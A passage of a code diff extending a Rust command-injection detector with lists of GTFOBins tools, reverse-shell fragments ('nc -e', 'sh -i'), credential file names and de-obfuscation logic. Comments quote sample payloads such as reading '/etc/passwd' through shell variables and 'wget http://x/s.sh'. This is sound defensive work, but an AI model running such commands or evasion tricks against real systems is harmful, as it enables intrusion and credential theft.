@@ -8,8 +8,11 @@
 //! the value; rare ones (`whoami`, `wget`) are enough alone. Free text in bodies counts
 //! less, since prose uses `;` and `&`.
 
+mod code;
+mod expansion;
+
 use super::gate::Triggers;
-use super::textscan::{contains_ci, find_ci, hit, push_once, snippet};
+use super::textscan::{find_ci, hit, push_once, snippet};
 use super::{Hit, Part, Value};
 
 const CLASS: &str = "rce";
@@ -43,6 +46,32 @@ const STRONG: &[&str] = &[
     "regedit", "bcdedit", "bcdboot", "iwr", "iwmi", "cpulimit", "aptitude", "bsdtar", "ansible-config",
     "ansible-pull", "diskpart", "cipher", "wevtutil", "fsutil", "auditpol", "gunzip", "zcat", "zstdcat", "bzcat",
     "xzcat", "zgrep", "zless", "zmore", "lzcat", "unxz", "unlzma", "bunzip2", "unzstd", "uncompress", "zstdgrep", "xzgrep", "bzgrep",
+    // GTFOBins: binaries that run a shell, read files or open sockets for an attacker.
+    "c89", "c99", "rmt", "rmt-tar", "rmt-dump", "lastlog", "lastb", "chef-vault", "chef-run", "chef-apply", "knife",
+    "base32", "basenc", "bpftrace", "busctl", "cobc", "cpan", "csplit", "dmidecode", "dmsetup", "dstat", "easy_install",
+    "exiftool", "hping3", "ldconfig", "lftp", "loginctl", "logsave", "lwp-download", "lwp-request", "minicom",
+    "msfconsole", "msfvenom", "nasm", "ncftp", "neofetch", "nft", "openvpn", "openvt", "pdflatex", "pidstat", "psftp",
+    "readelf", "rpmquery", "rpmdb", "rpmverify", "run-parts", "run-mailcap", "scanmem", "setfacl", "getfacl", "sshpass",
+    "ssh-keyscan", "ssh-agent", "ssh-copy-id", "tshark", "torify", "torsocks", "unsquashfs", "uudecode", "uuencode",
+    "varnishncsa", "vipw", "vigr", "virsh", "xdotool", "xmodmap", "zypper", "tdbtool", "systemd-resolve", "timedatectl",
+    "update-alternatives", "mysqladmin", "dnf", "opkg", "gcore", "genisoimage", "ghci", "ginsh", "ionice", "ksshell",
+    "ksu", "lualatex", "luatex", "msgfilter", "multitime", "nroff", "pexec", "rtorrent", "setlock", "slsh", "softlimit",
+    "sqlmap", "tasksh", "tmate", "vimdiff", "xelatex", "xetex", "yash", "zsoelim", "choom", "cupsfilter", "csvtool",
+    "debugfs", "dosbox", "dvips", "efax", "elvish", "enscript", "espeak", "iftop", "latexmk", "mosquitto", "msgattrib",
+    "msgcat", "msgconv", "msgmerge", "msguniq", "redcarpet", "restic", "runscript", "soelim", "byebug", "aa-enforce",
+    "aa-complain", "aa-status", "apparmor_parser", "check_by_ssh", "check_log", "check_raid", "check_ssl_cert",
+    "uconv", "pipx", "adduser", "addgroup", "deluser", "delgroup", "chpasswd", "gpasswd", "newgrp",
+];
+
+/// Strong names that no prose uses (beyond hyphenated and numbered ones): after a
+/// separator any argument will do.
+const DISTINCT: &[&str] = &[
+    "whoami", "ifconfig", "ipconfig", "nslookup", "netstat", "systeminfo", "tasklist", "taskkill", "certutil",
+    "bitsadmin", "cscli", "visudo", "bsdtar", "lastlog", "ansible", "rmt", "busybox", "crontab", "useradd", "usermod",
+    "getent", "iptables", "sysctl", "dmesg", "mkfifo", "nsenter", "kubectl", "crictl", "setarch", "taskset", "stdbuf",
+    "pkexec", "capsh", "vssadmin", "icacls", "schtasks", "wevtutil", "fsutil", "auditpol", "bcdedit", "bcdboot",
+    "wmic", "rundll32", "regsvr32", "mshta", "cscript", "wscript", "msiexec", "powershell", "knife", "tshark",
+    "msfconsole", "msfvenom", "sshpass", "virsh", "zypper", "busctl", "loginctl", "ldconfig", "dmidecode",
 ];
 
 /// Reconnaissance commands that, as the whole value, are a command and nothing else.
@@ -65,7 +94,12 @@ const WEAK: &[&str] = &[
     "nano", "top", "free", "whatis", "man", "info", "jobs", "bg", "fg", "disown", "trap",
     "source", "logout", "chgrp", "stat", "readlink", "realpath", "basename", "dirname", "seq",
     "bc", "factor", "yes", "sum", "cksum", "md5sum", "sha1sum", "sha256sum",
+    // GTFOBins that are also words.
+    "column", "fold", "bridge", "comm", "paste", "shuf", "screen", "ss", "jq", "xz", "bzip2", "cpio", "pax",
 ];
+
+/// File names that, as a command's argument, are what an attacker reads.
+const SENSITIVE_ARGS: &[&str] = &["passwd", "shadow", "sudoers", "id_rsa", "authorized_keys", ".bash_history", ".htpasswd", "master.passwd", "gshadow"];
 
 /// Cmdlet verbs: `Verb-Noun` after a separator is PowerShell.
 const PS_VERBS: &[&str] = &[
@@ -83,16 +117,77 @@ const INVOCATIONS: &[&str] = &[
     "sh -i", "nc -e", "nc -l", "ncat -e", "mkfifo /tmp", "python -c", "python3 -c", "perl -e",
     "ruby -e", "php -r", "%comspec%", "$env:comspec", "system32\\cmd", "/system32/cmd",
     "wscript.shell", "shell.application", "process.start(",
+    // An argv written with commas (GTFOBins `-wrapper sh,-c,id`, `find -exec`-style lists).
+    "sh,-c,", "bash,-c,", "sh,-i,", "bash,-i,", "sh,-c ", "bash,-c ",
 ];
 
-/// What a value must contain for any rule of this class to match (see `gate`). The class
-/// now reads bare commands, C-escaped separators, brace expansions and glob-only paths, so
-/// no cheap necessary condition covers every rule: the scanner runs on every value and
-/// relies on its own quick exit for words-only text.
-pub const TRIGGERS: Triggers = Triggers::ALWAYS;
+/// What a value must contain for any rule of this class to match (see `gate`): add a
+/// trigger here with every new rule.
+///
+/// - bytes: expansions and obfuscation the word reader undoes (`$`, `\\` and the C escapes,
+///   `[u]` globs, `{a,b}` braces, `?`/`*` globs, backticks);
+/// - literals: invocation fragments, Node.js, cmdlet verbs, SSI, redirections, the
+///   expansion rules' markers, process-API modules, versioned interpreters;
+/// - words: reconnaissance commands alone, cmd.exe `IF`/`FOR`;
+/// - `command_start`: a known command word where the separator and leading-command rules
+///   read one (the same reader, at the same places).
+pub const TRIGGERS: Triggers = Triggers {
+    bytes: b"$\\[{?*`",
+    anywhere: &[
+        INVOCATIONS,
+        NODE_JS,
+        PS_VERBS,
+        WINDOWS_ENV_VARS,
+        &[
+            "<!--#", "<<<", "2>&1", ">/dev/null", "> /dev/null", ">&/dev/", "</dev/", "/tcp/", "/udp/", "()", "!-", "~+",
+            "~-", "alias", "console", "__js_function", "__import__",
+        ],
+        // `python3.10`, `php7.4`: interpreters with a version glued on (see `command_at`).
+        &["python", "perl", "php", "ruby", "lua", "node", "gcc", "pip", "java", "bash"],
+    ],
+    words: &[RECON, &["if", "for"], code::MODULES],
+    custom: Some(|v| command_start(v.text)),
+    ..Triggers::NONE
+};
+
+/// The gate's condition for the separator and leading-command rules: a known command word
+/// (`command_at`) right after a separator, or opening a value that has room for arguments.
+/// (Backticks, `$(..)`, escapes and obfuscation are the byte triggers' part.)
+fn command_start(full: &str) -> bool {
+    let t = full.get(..super::textscan::floor_char(full, MAX_BYTES)).unwrap_or(full);
+    let s = t.as_bytes();
+    let quoted = matches!(s.first(), Some(b'\'' | b'"'));
+    if (leading_room(s) || quoted) && command_at(s, usize::from(quoted)).is_some() {
+        return true;
+    }
+    let mut starts = 0;
+    let mut i = 0;
+    while let Some(off) = s.get(i..).and_then(|r| r.iter().position(|&c| separator_byte(c) && c != b'`' && c != b'$')) {
+        let at = i + off;
+        if starts >= MAX_STARTS {
+            return true;
+        }
+        starts += 1;
+        match separator_at(s, at) {
+            Some((_, next)) => {
+                if command_at(s, next).is_some() {
+                    return true;
+                }
+                i = next.max(at + 1);
+            }
+            None => i = at + 1,
+        }
+    }
+    false
+}
 
 /// Windows environment variables naming system locations.
 const WINDOWS_ENV_VARS: &[&str] = &["%systemroot%", "%windir%", "%comspec%", "%programfiles%", "%systemdrive%", "%userprofile%", "%appdata%", "%temp%", "%homedrive%"];
+
+/// Bytes at which `separator_at` can find a command start.
+fn separator_byte(c: u8) -> bool {
+    matches!(c, b'`' | b'$' | b'<' | b'>' | b';' | b'\n' | b'\r' | b'|' | b'&')
+}
 
 /// A place where a new command can start at `i` (`;`, `|`, `||`, `&`, `&&`, newline,
 /// backtick, `$(`, `<(`, `>(`): its kind and where the command word begins.
@@ -110,13 +205,37 @@ fn separator_at(s: &[u8], i: usize) -> Option<(Sep, usize)> {
 }
 
 /// Words of a cmd.exe `IF` condition (`batch_statement`).
-const BATCH_IF_WORDS: &[&str] = &["exist", "defined", "errorlevel", " equ ", " neq ", " lss ", " leq ", " gtr ", " geq ", "+equ+", "+gtr+", "+lss+"];
+const BATCH_IF_WORDS: &[&str] = &["exist", "defined", "errorlevel", "cmdextversion", " equ ", " neq ", " lss ", " leq ", " gtr ", " geq ", "+equ+", "+gtr+", "+lss+"];
 
 /// Server-side JavaScript (Node.js) code-execution fragments.
 const NODE_JS: &[&str] = &[
     "_$$nd_func$$_", "__js_function", "constructor.constructor", "child_process", "process.mainmodule",
     "process.binding(", "global.process", "module.constructor._load", "process.dlopen(",
+    // Sandbox escapes and dynamic code: bracket access to the process and loader, the
+    // `Function` constructor, char-code strings evaluated, exports rewritten.
+    "process[", "require[", "process.env[", "new function(", "new function (", "eval(string.fromcharcode",
+    "module.exports=", "module.exports =", "constructor:constructor",
 ];
+
+/// `console.info(1)`, `console["log"](x)`, `console.log.call(this, 1)`: server-side
+/// JavaScript probing with the console.
+fn console_call(t: &str) -> Option<usize> {
+    let at = find_ci(t, "console")?;
+    let rest = t.get(at + 7..)?;
+    let rest = if let Some(r) = rest.strip_prefix('.') {
+        r
+    } else {
+        rest.strip_prefix("[\"").or_else(|| rest.strip_prefix("['"))?
+    };
+    let name_len = rest.bytes().take_while(u8::is_ascii_alphabetic).count();
+    let method = rest.get(..name_len)?.to_ascii_lowercase();
+    if !matches!(method.as_str(), "log" | "info" | "warn" | "error" | "debug" | "trace" | "dir" | "table" | "assert") {
+        return None;
+    }
+    let after = rest.get(name_len..)?.trim_start_matches(['"', '\'', ']']);
+    let after = after.strip_prefix(".call").or_else(|| after.strip_prefix(".apply")).unwrap_or(after);
+    (super::textscan::word_start(t.as_bytes(), at) && after.starts_with('(')).then_some(at)
+}
 
 /// Per-value scan: the text as given and, when it holds C-style escapes (`\n`, `\r`,
 /// `\t`, `\033[2A`), the text those escapes stand for.
@@ -128,6 +247,17 @@ pub fn scan(v: &Value<'_>, out: &mut Vec<Hit>) {
     }
     let since = out.len();
     scan_text(v, t, out, since);
+    // `a=/etc&&c=cat&&$c $a/passwd`: the text with the value's own variables expanded.
+    if let Some(u) = expand_assignments(t) {
+        let mut more = Vec::new();
+        scan_text(v, &u, &mut more, 0);
+        for h in more {
+            if !out.iter().skip(since).any(|o| o.rule == h.rule && o.score >= h.score) {
+                out.retain(|o| o.rule != h.rule);
+                out.push(h);
+            }
+        }
+    }
     if let Some(u) = c_unescape(t) {
         let mut more = Vec::new();
         scan_text(v, &u, &mut more, 0);
@@ -140,6 +270,87 @@ pub fn scan(v: &Value<'_>, out: &mut Vec<Hit>) {
             }
         }
     }
+}
+
+/// The text with `$name`/`${name}` replaced by the values the text itself assigns
+/// (`name=value` opening a command: at the start or after `;`, `&`, `|`, a newline), if it
+/// assigns and uses any. Values end at a blank or separator; quotes and backslashes are
+/// undone (`c4=\ ` is a blank).
+fn expand_assignments(t: &str) -> Option<String> {
+    let s = t.as_bytes();
+    if !s.contains(&b'$') || !s.contains(&b'=') {
+        return None;
+    }
+    let mut vars: Vec<(&[u8], Vec<u8>)> = Vec::new();
+    let mut i = 0;
+    while i < s.len() && vars.len() < 32 {
+        let opens = i == 0 || s.get(i - 1).is_some_and(|c| matches!(c, b';' | b'&' | b'|' | b'\n' | b'\r' | b' ' | b'\t' | b'+'));
+        let ident_start = s.get(i).is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_');
+        if !opens || !ident_start {
+            i += 1;
+            continue;
+        }
+        let n0 = i;
+        while s.get(i).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_') {
+            i += 1;
+        }
+        if s.get(i) != Some(&b'=') || i - n0 > 32 {
+            continue;
+        }
+        let name = s.get(n0..i).unwrap_or_default();
+        i += 1;
+        let mut val = Vec::new();
+        while let Some(&c) = s.get(i) {
+            match c {
+                b'\\' => {
+                    if let Some(&n) = s.get(i + 1) {
+                        val.push(n);
+                    }
+                    i += 2;
+                }
+                b'\'' | b'"' => i += 1,
+                b' ' | b'\t' | b';' | b'&' | b'|' | b'\n' | b'\r' | b'+' => break,
+                _ => {
+                    val.push(c);
+                    i += 1;
+                }
+            }
+            if val.len() > 64 {
+                break;
+            }
+        }
+        vars.retain(|(n, _)| *n != name);
+        vars.push((name, val));
+    }
+    if vars.is_empty() {
+        return None;
+    }
+    let mut out: Vec<u8> = Vec::with_capacity(s.len() + 64);
+    let mut used = false;
+    let mut i = 0;
+    while let Some(&c) = s.get(i) {
+        if c == b'$' && out.len() < 2 * MAX_BYTES {
+            let braced = s.get(i + 1) == Some(&b'{');
+            let n0 = i + 1 + usize::from(braced);
+            let mut e = n0;
+            while s.get(e).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_') {
+                e += 1;
+            }
+            let closed = !braced || s.get(e) == Some(&b'}');
+            if let Some((_, val)) = vars.iter().find(|(n, _)| closed && s.get(n0..e) == Some(*n)) {
+                out.extend_from_slice(val);
+                used = true;
+                i = e + usize::from(braced);
+                continue;
+            }
+        }
+        out.push(c);
+        i += 1;
+    }
+    if !used {
+        return None;
+    }
+    String::from_utf8(out).ok()
 }
 
 /// The text with C-style escapes undone, if it has any: `\n` `\r` `\t` as blanks and
@@ -213,7 +424,7 @@ fn scan_text(v: &Value<'_>, t: &str, out: &mut Vec<Hit>, since: usize) {
     }
 
     // Quick exit: no shell metacharacter and no invocation fragment.
-    let has_meta = s.iter().any(|&b| matches!(b, b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'\r' | b'(' | b'{' | b'%' | b'\'' | b'"' | b'<' | b'\\'));
+    let has_meta = s.iter().any(|&b| matches!(b, b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'\r' | b'(' | b'{' | b'%' | b'\'' | b'"' | b'<' | b'\\' | b'~' | b'['));
     if !has_meta && !t.contains('/') && !t.contains('-') && !t.contains('.') && !t.contains(':') {
         // Words only: at most a command line of words (`which nc`, `net view`, `sleep 5`)
         // or a cmd.exe statement (`IF EXIST x GOTO y`).
@@ -222,6 +433,11 @@ fn scan_text(v: &Value<'_>, t: &str, out: &mut Vec<Hit>, since: usize) {
             if let Some((score, at)) = batch_statement(t) {
                 push_once(out, since, hit("rce.windows-batch", CLASS, score, 1, snippet(t, at, at + 80)));
             }
+            alias(t, out, since);
+        }
+        // funcster's serialised-function marker, as a bare word.
+        if let Some(at) = find_ci(t, "__js_function") {
+            push_once(out, since, hit("rce.node-js", CLASS, 5, 1, snippet(t, at, at + 40)));
         }
         return;
     }
@@ -257,6 +473,32 @@ fn scan_text(v: &Value<'_>, t: &str, out: &mut Vec<Hit>, since: usize) {
         }
     }
 
+    // Shell expansions that build commands and paths without spelling them.
+    if !prose {
+        let found = [
+            ("rce.bracket-glob-path", expansion::bracket_glob_path(s)),
+            ("rce.parameter-expansion", expansion::parameter_expansion(s)),
+            ("rce.arithmetic-expansion", expansion::arithmetic_expansion(s)),
+            ("rce.dev-socket", expansion::dev_socket(s)),
+            ("rce.history-expansion", expansion::history_expansion(s)),
+            ("rce.tilde-expansion", expansion::tilde_expansion(s)),
+        ];
+        for (rule, at) in found {
+            if let Some(at) = at {
+                push_once(out, since, hit(rule, CLASS, 5, 1, snippet(t, at, at + 60)));
+            }
+        }
+    }
+    // Process APIs of scripting languages (`Process.spawn("id")`, `os.popen(..)`).
+    if let Some(at) = code::process_api_call(t) {
+        let (score, pl) = if prose { (3, 2) } else { (5, 1) };
+        push_once(out, since, hit("rce.process-api", CLASS, score, pl, snippet(t, at, at + 80)));
+    }
+
+    if let Some(at) = console_call(t).filter(|_| !prose) {
+        push_once(out, since, hit("rce.node-js", CLASS, 5, 1, snippet(t, at, at + 60)));
+    }
+
     if has_ifs(t) {
         push_once(out, since, hit("rce.ifs", CLASS, 5, 1, snippet(t, find_ci(t, "ifs").unwrap_or(0).saturating_sub(4), 80)));
     }
@@ -265,6 +507,9 @@ fn scan_text(v: &Value<'_>, t: &str, out: &mut Vec<Hit>, since: usize) {
     let mut starts = 0;
     let mut i = 0;
     while i < s.len() && starts < MAX_STARTS {
+        // The next byte that can open a command (see `separator_at`).
+        let Some(off) = s.get(i..).and_then(|r| r.iter().position(|&c| separator_byte(c))) else { break };
+        i += off;
         let b = s.get(i).copied().unwrap_or(0);
         let Some((kind, next)) = separator_at(s, i) else {
             i += 1;
@@ -281,10 +526,11 @@ fn scan_text(v: &Value<'_>, t: &str, out: &mut Vec<Hit>, since: usize) {
                     }
                 }
                 // Structured headers (`User-Agent: (X11; U; id)`) use `;` as a list
-                // separator: only real arguments count there.
-                _ if v.part == Part::Header => cmd.args_shellish,
-                (_, Strength::Strong) => cmd.args_shellish || cmd.ends_value || cmd.then_separator,
-                (_, Strength::Weak) => cmd.args_shellish || cmd.ends_value,
+                // separator: only real arguments count there, unless the value opens
+                // with the separator (`;env`), which no header syntax does.
+                _ if v.part == Part::Header && !at_value_start(s, i) => cmd.args_shellish || cmd.obfuscated,
+                (_, Strength::Strong) => cmd.args_shellish || cmd.ends_value || cmd.then_separator || cmd.obfuscated || cmd.distinct && !prose,
+                (_, Strength::Weak) => cmd.args_shellish || cmd.ends_value || cmd.obfuscated && !prose,
             };
             // `a&b=c` in a raw form body is a parameter, not a command.
             if ok {
@@ -339,16 +585,7 @@ fn scan_text(v: &Value<'_>, t: &str, out: &mut Vec<Hit>, since: usize) {
         push_once(out, since, hit("rce.windows-batch", CLASS, score, 1, snippet(t, at, at + 80)));
     }
 
-    // `alias x=curl`: an alias for a known command.
-    if let Some(at) = find_ci(t, "alias").filter(|_| t.contains('=')) {
-        let rest = t.get(at + 5..).unwrap_or_default().trim_start_matches([' ', '+', '\t']);
-        if let Some(eq) = rest.find('=').filter(|&e| e > 0 && e < 32) {
-            let val = rest.get(eq + 1..).unwrap_or_default().as_bytes();
-            if super::textscan::word_start(s, at) && command_at(val, 0).is_some() {
-                push_once(out, since, hit("rce.alias-command", CLASS, 5, 1, snippet(t, at, at + 60)));
-            }
-        }
-    }
+    alias(t, out, since);
 
     // Server-side includes.
     if let Some(at) = super::textscan::find_lit!(s, b"<!--#") {
@@ -386,26 +623,33 @@ fn scan_text(v: &Value<'_>, t: &str, out: &mut Vec<Hit>, since: usize) {
             break;
         }
     }
-    if contains_ci(t, "$((") && t.contains("))") && !prose {
-        push_once(out, since, hit("rce.arithmetic-expansion", CLASS, 3, 2, snippet(t, find_ci(t, "$((").unwrap_or(0), 60)));
-    }
+}
+
+/// The value has room for a command line after its first word: a blank, an expansion,
+/// an escape, a quote or a separator. (Shared with the class gate's `command_start`.)
+fn leading_room(s: &[u8]) -> bool {
+    s.iter().any(|&b| matches!(b, b' ' | b'\t' | b'+' | b'$' | b'\\' | b'[' | b'\'' | b';' | b'|' | b'&' | b'`'))
 }
 
 /// A value that is itself a command line (`wget http://x/s.sh`, `cat /etc/passwd`).
 /// (Only values with an argument after the first word, or opening with a quote.)
 fn leading_command(t: &str, prose: bool, out: &mut Vec<Hit>, since: usize) {
     let s = t.as_bytes();
-    let multi_word = s.iter().any(|&b| matches!(b, b' ' | b'\t' | b'+' | b'$'));
-    if !prose && (multi_word || matches!(s.first(), Some(b'\'' | b'"'))) {
+    if !prose && (leading_room(s) || matches!(s.first(), Some(b'\'' | b'"'))) {
         // A quote first (`' whoami`) breaks out of a quoted argument.
         let quoted = matches!(s.first(), Some(b'\'' | b'"'));
         let start = if quoted { 1 } else { 0 };
         if let Some(cmd) = command_at(s, start) {
-            if cmd.args_shellish && (cmd.strength != Strength::Weak || cmd.args_strong) && !host_only(s, start, cmd.end) {
+            // `ansible-vault decrypt x`: a tool no prose names, with arguments; `c'a't x`,
+            // `\ls`: a word spelt for a shell.
+            let distinct_line = cmd.distinct && !cmd.ends_value && !host_only(s, start, cmd.end);
+            if cmd.args_shellish && (cmd.strength != Strength::Weak || cmd.args_strong) && !host_only(s, start, cmd.end) || distinct_line || cmd.obfuscated {
                 push_once(out, since, hit("rce.leading-command", CLASS, 5, 1, snippet(t, 0, 80)));
             } else if cmd.args_shellish {
                 push_once(out, since, hit("rce.leading-command", CLASS, 3, 1, snippet(t, 0, 80)));
-            } else if quoted && cmd.strength == Strength::Strong && cmd.ends_value {
+            } else if cmd.strength == Strength::Strong && cmd.ends_value && (quoted || cmd.then_separator && start == 0 && cmd.end >= 4 && !host_only(s, start, cmd.end)) {
+                // `' whoami`, `uname|`: a command closed by a separator and nothing else.
+                // (Not two-letter names: `id;`, `ls|` are also field lists.)
                 push_once(out, since, hit("rce.leading-command", CLASS, 5, 1, snippet(t, 0, 80)));
             }
         }
@@ -440,6 +684,10 @@ struct Cmd {
     /// The first argument only makes sense to a shell: a drive root (`C:\\`), an admin
     /// tool's verb (`net user`), a command name after `which`, a bare number after `sleep`.
     args_strong: bool,
+    /// The word is spelt the way only a shell reads it (`w'h'oami`, `$u wget`, `\\ls`).
+    obfuscated: bool,
+    /// A tool name no prose uses (`ansible-vault`, `cscli`, `c99`): any argument will do.
+    distinct: bool,
     end: usize,
 }
 
@@ -503,12 +751,13 @@ fn read_word_once(s: &[u8], mut i: usize) -> (String, usize) {
                 i += 2;
             }
             b'\'' | b'"' => i += 1,
-            // `[u]name`: a one-character bracket glob is that character.
-            b'[' if s.get(i + 2) == Some(&b']') && s.get(i + 1).is_some_and(|c| c.is_ascii_alphanumeric()) => {
-                if let Some(&c1) = s.get(i + 1) {
+            // `[u]name`, `/[e//]tc`: a bracket glob matching one character is that
+            // character; a wider class (`[a-z]`, `[!x]`) matches like `?`.
+            b'[' if bracket_glob(s, i).is_some() => {
+                if let Some((c1, len)) = bracket_glob(s, i) {
                     w.push(c1.to_ascii_lowercase() as char);
+                    i += len;
                 }
-                i += 3;
             }
             b'$' => {
                 if ifs_len(s, i) > 0 {
@@ -516,6 +765,8 @@ fn read_word_once(s: &[u8], mut i: usize) -> (String, usize) {
                 }
                 match s.get(i + 1) {
                     Some(b'@' | b'*' | b'0'..=b'9') => i += 2,
+                    // `pi$()ng`: an empty command substitution.
+                    Some(b'(') if s.get(i + 2) == Some(&b')') => i += 3,
                     Some(b'{') => {
                         let close = s.get(i..).and_then(|r| r.iter().take(40).position(|&x| x == b'}'));
                         match close {
@@ -533,6 +784,8 @@ fn read_word_once(s: &[u8], mut i: usize) -> (String, usize) {
                     _ => break,
                 }
             }
+            // ``pi``ng``: an empty backtick substitution.
+            b'`' if s.get(i + 1) == Some(&b'`') && !w.is_empty() => i += 2,
             // `+` is a blank once a URL is decoded (`;cat+/etc/passwd`).
             b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b'<' | b'>' | b'(' | b')' | b'`' | b',' | b'}' | b'+' | 0 => break,
             _ => {
@@ -542,6 +795,71 @@ fn read_word_once(s: &[u8], mut i: usize) -> (String, usize) {
         }
     }
     (w, i)
+}
+
+/// `alias x=curl`: an alias for a known command anywhere; `alias -g a=b` as a command
+/// (opening the value or after a separator) whatever it aliases.
+fn alias(t: &str, out: &mut Vec<Hit>, since: usize) {
+    let s = t.as_bytes();
+    if let Some(at) = find_ci(t, "alias").filter(|_| t.contains('=')) {
+        let rest = t.get(at + 5..).unwrap_or_default().trim_start_matches([' ', '+', '\t']);
+        if let Some(eq) = rest.find('=').filter(|&e| e > 0 && e < 32) {
+            let val = rest.get(eq + 1..).unwrap_or_default().as_bytes();
+            if super::textscan::word_start(s, at) && command_at(val, 0).is_some() {
+                push_once(out, since, hit("rce.alias-command", CLASS, 5, 1, snippet(t, at, at + 60)));
+            }
+        }
+        if alias_definition(s, at) {
+            push_once(out, since, hit("rce.alias-command", CLASS, 5, 1, snippet(t, at, at + 60)));
+        }
+    }
+}
+
+/// `alias [-opts|+opts] name=value` where a command starts (value start or after a
+/// separator): a shell builtin defining an alias.
+fn alias_definition(s: &[u8], at: usize) -> bool {
+    let before = s.get(..at).unwrap_or_default().iter().rev().find(|c| !matches!(c, b' ' | b'\t' | b'+' | b'\'' | b'"')).copied();
+    if !matches!(before, None | Some(b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'(' | b'{')) || !s.get(at..at + 5).is_some_and(|w| w.eq_ignore_ascii_case(b"alias")) {
+        return false;
+    }
+    let mut j = at + 5;
+    if !matches!(s.get(j), Some(b' ' | b'\t' | b'+')) {
+        return false;
+    }
+    // Blanks and option words (`-gmr`, `+m`, `+g+`).
+    for _ in 0..6 {
+        while matches!(s.get(j), Some(b' ' | b'\t')) {
+            j += 1;
+        }
+        match s.get(j) {
+            Some(b'-' | b'+') if s.get(j + 1).is_some_and(u8::is_ascii_alphabetic) => {
+                j += 1;
+                while s.get(j).is_some_and(|c| c.is_ascii_alphabetic() || *c == b'+') {
+                    j += 1;
+                }
+            }
+            Some(b'+') => j += 1,
+            _ => break,
+        }
+    }
+    // name=
+    let q = matches!(s.get(j), Some(b'\'' | b'"'));
+    if q {
+        j += 1;
+    }
+    let n0 = j;
+    while s.get(j).is_some_and(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.')) && j - n0 < 32 {
+        j += 1;
+    }
+    if q && matches!(s.get(j), Some(b'\'' | b'"')) {
+        j += 1;
+    }
+    j > n0 && s.get(j) == Some(&b'=') && s.get(j + 1).is_some_and(|c| !c.is_ascii_whitespace())
+}
+
+/// Only blanks and quotes before `i`: a separator that opens the value.
+fn at_value_start(s: &[u8], i: usize) -> bool {
+    s.get(..i).is_some_and(|p| p.iter().all(|c| matches!(c, b' ' | b'\t' | b'\'' | b'"')))
 }
 
 /// Length of an IFS blank at `i` (`${IFS}`, `$IFS$9`, `$IFS`), or 0.
@@ -559,6 +877,41 @@ fn ifs_len(s: &[u8], i: usize) -> usize {
     0
 }
 
+/// A shell bracket glob at `i` (`[s]`, `[p//]`, `[a-z]`, `[!x]`): the character it stands
+/// for (`?` for a class of several) and its length.
+fn bracket_glob(s: &[u8], i: usize) -> Option<(u8, usize)> {
+    if s.get(i) != Some(&b'[') {
+        return None;
+    }
+    let inner_len = s.get(i + 1..)?.iter().take(17).position(|&c| c == b']')?;
+    let inner = s.get(i + 1..i + 1 + inner_len)?;
+    let alnum = inner.iter().filter(|c| c.is_ascii_alphanumeric()).count();
+    if alnum == 1 && inner.iter().all(|c| c.is_ascii_alphanumeric() || *c == b'/') {
+        // (`/` never matches inside a bracket: `[p//]` is `p`.)
+        return inner.iter().find(|c| c.is_ascii_alphanumeric()).map(|&c| (c, inner_len + 2));
+    }
+    let class = inner.len() >= 2
+        && alnum >= 1
+        && inner.iter().enumerate().all(|(k, &c)| c.is_ascii_alphanumeric() || c == b'-' && k > 0 || matches!(c, b'!' | b'^') && k == 0);
+    class.then_some((b'?', inner_len + 2))
+}
+
+/// The raw bytes of a command word spell it in a way only a shell reads as that word:
+/// a quote or backslash inside it, an empty expansion (`$u`, `${x}`, `$@`) before or in
+/// it, a bracket glob. (A word quoted as a whole, `'rmt'`, is not.)
+fn obfuscated_word(raw: &[u8]) -> bool {
+    let raw = raw.iter().position(|c| !matches!(c, b' ' | b'\t' | b'+' | b'{' | b'(' | b'!')).and_then(|k| raw.get(k..)).unwrap_or_default();
+    // (Two quotes at least: one between letters is an English contraction, `I'd`.)
+    let quotes = raw.iter().take_while(|c| !c.is_ascii_whitespace()).filter(|c| matches!(c, b'\'' | b'"')).count();
+    let inner_quote = quotes >= 2 && raw.iter().enumerate().any(|(k, &c)| {
+        matches!(c, b'\'' | b'"') && k > 0 && raw.get(k - 1).is_some_and(|p| p.is_ascii_alphanumeric()) && raw.get(k + 1).is_some_and(|n| n.is_ascii_alphanumeric() || matches!(n, b'\'' | b'"'))
+    }) || raw.windows(2).any(|w| matches!(w, [b'\'', b'\''] | [b'"', b'"']));
+    let escaped = raw.windows(2).any(|w| w.first() == Some(&b'\\') && w.get(1).is_some_and(|c| c.is_ascii_alphabetic()));
+    let empty_expansion = raw.windows(2).any(|w| w.first() == Some(&b'$') && w.get(1).is_some_and(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'@' | b'*' | b'{' | b'(')) || w == b"``");
+    let glob = raw.iter().enumerate().any(|(k, _)| bracket_glob(raw, k).is_some_and(|(c, _)| c != b'?'));
+    inner_quote || escaped || empty_expansion || glob
+}
+
 /// The command word at `i`, if it names a known command.
 fn command_at(s: &[u8], i: usize) -> Option<Cmd> {
     let (word, end) = read_word(s, i);
@@ -569,14 +922,28 @@ fn command_at(s: &[u8], i: usize) -> Option<Cmd> {
     if word.contains('=') || word.contains("://") {
         return None;
     }
-    let name = word.rsplit(['/', '\\']).next().unwrap_or(&word);
+    let mut name = word.rsplit(['/', '\\']).next().unwrap_or(&word);
+    // `bcdboot/r`, `ipconfig/all`: a Windows command with its switch glued on.
+    if !word.starts_with(['/', '.', '~']) && !is_strong(name) && !is_weak(name) {
+        if let Some((head, switch)) = word.split_once('/') {
+            if is_strong(head.strip_suffix(".exe").unwrap_or(head)) && (1..=8).contains(&switch.len()) && switch.bytes().all(|c| c.is_ascii_alphanumeric() || c == b':') && !switch.contains('/') {
+                name = head;
+            }
+        }
+    }
     let name = name.strip_suffix(".exe").unwrap_or(name);
     // `python3.10`, `php7.4`: an interpreter with its version glued on.
     let versioned = {
         let base = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
         base.len() < name.len() && matches!(base, "python" | "perl" | "php" | "ruby" | "lua" | "node" | "gcc" | "pip" | "java" | "bash")
     };
-    let strength = if (word.contains('?') || word.contains('*')) && word.starts_with('/') && glob_path(&word) {
+    // SQLite's shell escapes (`.shell nc -e sh ..`, `.system id`) running a command.
+    let sqlite_escape = word.starts_with('.')
